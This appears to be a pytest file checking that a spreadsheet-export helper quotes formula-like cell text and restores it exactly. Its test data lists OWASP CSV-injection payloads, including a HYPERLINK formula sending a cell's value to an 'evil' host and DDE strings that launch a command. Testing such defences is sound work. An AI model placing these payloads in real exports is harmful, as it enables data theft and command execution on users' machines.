"""The spreadsheet rule: formula-like text quoted on the way out, unquoted on the way in."""

from __future__ import annotations

import pytest

from meetings.core.spreadsheets import needs_quote, protect, unprotect

#: OWASP's CSV injection vectors, and texts that must pass untouched.
FORMULAS = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Hà Nội", "", "a=b", " =1", "'quoted'", "0912 345 678", "x-y", "mail@example.org"]
#: Texts whose own leading quotes must survive the round trip too.
QUOTED = ["'=1+1", "''-5", "'", "''", "'@x"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_quoted(text: str):
    assert protect(text) == "'" + text
    assert needs_quote(text)


@pytest.mark.parametrize("text", PLAIN)
def test_other_cells_are_written_as_they_are(text: str):
    assert protect(text) == text


@pytest.mark.parametrize("text", FORMULAS + PLAIN + QUOTED)
def test_unprotect_gives_back_exactly_what_protect_was_given(text: str):
    assert unprotect(protect(text)) == text


def test_a_quote_that_was_part_of_the_value_is_kept():
    assert protect("'=1+1") == "''=1+1"
    assert unprotect("'=1+1") == "=1+1"  # as a person would type it in a spreadsheet
    assert unprotect("'quoted'") == "'quoted'"
